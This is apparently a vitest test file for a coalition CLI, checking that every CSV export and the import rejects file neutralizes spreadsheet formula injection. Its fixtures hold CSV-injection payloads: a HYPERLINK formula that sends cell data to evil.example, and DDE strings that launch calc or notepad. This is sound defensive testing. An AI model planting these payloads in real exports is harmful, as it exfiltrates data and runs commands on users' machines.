/**
 * Every CSV the tool writes is safe to open in a spreadsheet (OWASP CSV injection): checked by
 * reading the sources (every CSV writer goes through `renderCsv` / `neutralizeCsvCell` in
 * src/io/output.ts) and by running every command that can print CSV, and the import's rejects file,
 * against a database full of hostile values.
 */
import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import Database from 'better-sqlite3';
import { beforeAll, describe, expect, it } from 'vitest';
import { commandSpecs } from '../../src/commands/index.js';
import { tempDir } from '../helpers/context.js';
import { coalition, ROOT } from '../helpers/e2e.js';
import { freshDb, seedCoalition } from './safety-fixtures.js';

function sources(dir: string): string[] {
  return readdirSync(dir, { withFileTypes: true }).flatMap((e) => (e.isDirectory() ? sources(path.join(dir, e.name)) : e.name.endsWith('.ts') ? [path.join(dir, e.name)] : []));
}

const DANGEROUS_START = /^[=+\-@\t\r]/;
const NUMBER = /^-?\d+(\.\d+)?$/;

/** Cells a spreadsheet would run as a formula. */
function formulaCells(csv: string): string[] {
  const rows = parse(csv, { relax_column_count: true, bom: true }) as string[][];
  return rows.flat().filter((c) => DANGEROUS_START.test(c) && !NUMBER.test(c));
}

const HOSTILE = {
  coalitionName: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  host: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  first: '=1+2',
  last: '+cmd|\' /C notepad\'!A0',
  org: '-2+3+cmd|\' /C calc\'!A0',
  email: '@evil.example',
  city: '\t=1+1',
  note: '\r=2+2',
};

describe('CSV written by the tool', () => {
  it('renderCsv neutralizes every dangerous first character (the OWASP list)', async () => {
    const { renderCsv } = await import('../../src/io/output.js');
    const values = ['=1+1', '+1', '-1+1', '@A1', '\t=1', '\r=1', 'ok', '', "'=already"];
    const csv = renderCsv(values.map((v) => ({ v })), [{ header: 'v', key: 'v' }]);
    expect(formulaCells(csv)).toEqual([]);
    expect(parse(csv)).toEqual([['v'], ["'=1+1"], ["'+1"], ["'-1+1"], ["'@A1"], ["'\t=1"], ["'\r=1"], ['ok'], [''], ["'=already"]]);
  });

  it('every source that writes CSV goes through the safe writer', () => {
    // Functions anywhere in src/ that build their CSV with renderCsv count as safe writers too
    // (e.g. the report's reportCsv), so a command may call them.
    const wrappers = new Set<string>();
    for (const f of sources(path.join(ROOT, 'src'))) {
      for (const m of readFileSync(f, 'utf8').matchAll(/export function (\w+)\([^)]*\)[^{]*\{([\s\S]*?)\n\}/g)) {
        if (/\brenderCsv\(/.test(m[2])) wrappers.add(m[1]);
      }
    }
    const safe = new RegExp(`\\b(renderCsv|neutralizeCsvCell|printRecords${[...wrappers].map((w) => `|${w}`).join('')})\\b`);
    expect(wrappers.size).toBeGreaterThan(0);
    const offenders: string[] = [];
    for (const f of sources(path.join(ROOT, 'src'))) {
      const rel = path.relative(ROOT, f);
      if (rel === path.join('src', 'io', 'output.ts')) continue;
      const text = readFileSync(f, 'utf8');
      // a CSV library; CSV built by hand (cells joined with commas) and written; or a 'csv' format handled here
      const writes = /\b(writeFileSync|writeSync|appendFileSync|createWriteStream|writeOutput|stdout\.write)\b/.test(text);
      const writesCsv =
        /['"]csv-stringify(\/sync)?['"]/.test(text) ||
        (writes && /\.join\(\s*(['"])[,;]\1\s*\)/.test(text)) ||
        /case\s+['"]csv['"]|===\s*['"]csv['"]/.test(text);
      if (writesCsv && !safe.test(text)) offenders.push(rel);
    }
    expect(offenders).toEqual([]);
  });

  describe('run against hostile data', () => {
    let db: string;
    beforeAll(async () => {
      db = await freshDb();
      seedCoalition(db, { slug: 'ia-2026', state: 'IA', people: [{ first: HOSTILE.first, last: HOSTILE.last, email: HOSTILE.email, org: HOSTILE.org, city: HOSTILE.city, title: HOSTILE.note }] });
      const raw = new Database(db);
      raw.prepare('UPDATE coalitions SET name = ?, city = ?, venue = ?, description = ?').run(HOSTILE.coalitionName, HOSTILE.city, HOSTILE.host, HOSTILE.note);
      raw.prepare('UPDATE coalition_hosts SET name = ?').run(HOSTILE.host);
      raw.prepare('UPDATE organizations SET address = ?, notes = ?').run(HOSTILE.first, HOSTILE.note);
      raw.prepare('UPDATE people SET notes = ?, phone = ?').run(HOSTILE.note, HOSTILE.last);
      raw.prepare("UPDATE activities SET note = ?").run(HOSTILE.coalitionName);
      raw.close();
    });

    // Every command that offers --format csv and needs no argument.
    const csvCommands = commandSpecs.filter((s) => s.load && (s.options ?? []).some((o) => o.flags.startsWith('--format') && (o.choices ?? []).includes('csv')) && !(s.args ?? []).some((a) => a.startsWith('<')));

    it('finds the commands that print CSV', () => {
      expect(csvCommands.map((s) => s.name)).toContain('list');
    });

    it.each(csvCommands.map((s) => [s.name]))('coalition %s --format csv', async (name) => {
      const r = await coalition([...name.split(' '), '--format', 'csv', '-c', 'ia-2026', '--db', db]);
      if (name === 'list') {
        expect(r.exitCode).toBe(0);
        expect(r.stdout).toContain("'=HYPERLINK");
      }
      // a command with nothing to show for this data may refuse; whatever it prints must be safe
      expect(formulaCells(r.stdout)).toEqual([]);
    });

    const toFile = csvCommands.filter((s) => (s.options ?? []).some((o) => o.flags.includes('--output')));
    it.skipIf(toFile.length === 0).each(toFile.map((s) => [s.name]))('coalition %s --format csv -o FILE', async (name) => {
      const out = path.join(tempDir(), 'out.csv');
      await coalition([...name.split(' '), '--format', 'csv', '-o', out, '-c', 'ia-2026', '--db', db]);
      if (existsSync(out)) expect(formulaCells(readFileSync(out, 'utf8'))).toEqual([]);
    });

    const hasImport = commandSpecs.some((s) => s.name === 'import contacts' || s.name === 'import');
    it.skipIf(!hasImport)('the rejects file of an import', async () => {
      const dir = tempDir();
      const input = path.join(dir, 'contacts.csv');
      const q = (s: string) => `"${s.replace(/"/g, '""')}"`;
      const lines = [
        'Organization,First Name,Last Name,Email,City,State,ZIP,Notes',
        // rejected rows (no organization, and an impossible e-mail) full of formulas
        [q(''), q(HOSTILE.first), q(HOSTILE.last), q('=not an email'), q(HOSTILE.city), 'IA', '50309', q(HOSTILE.note)].join(','),
        [q(''), q('@SUM(1)'), q('-1+1'), q('+1@'), q('=A1'), 'IA', '50309', q('=cmd')].join(','),
        ['Polk County Sheriff\'s Office', 'Maria', 'Kowalski', 'mk@polk.example', 'Des Moines', 'IA', '50309', ''].join(','),
      ];
      writeFileSync(input, lines.join('\r\n') + '\r\n');
      const rejects = path.join(dir, 'rejects.csv');
      const r = await coalition(['import', 'contacts', input, '--rejects', rejects, '--db', db]);
      expect(r.exitCode).toBe(3);
      expect(existsSync(rejects)).toBe(true);
      const text = readFileSync(rejects, 'utf8');
      expect(formulaCells(text)).toEqual([]);
      expect(text).toContain("'@SUM(1)");
    });
  });
});
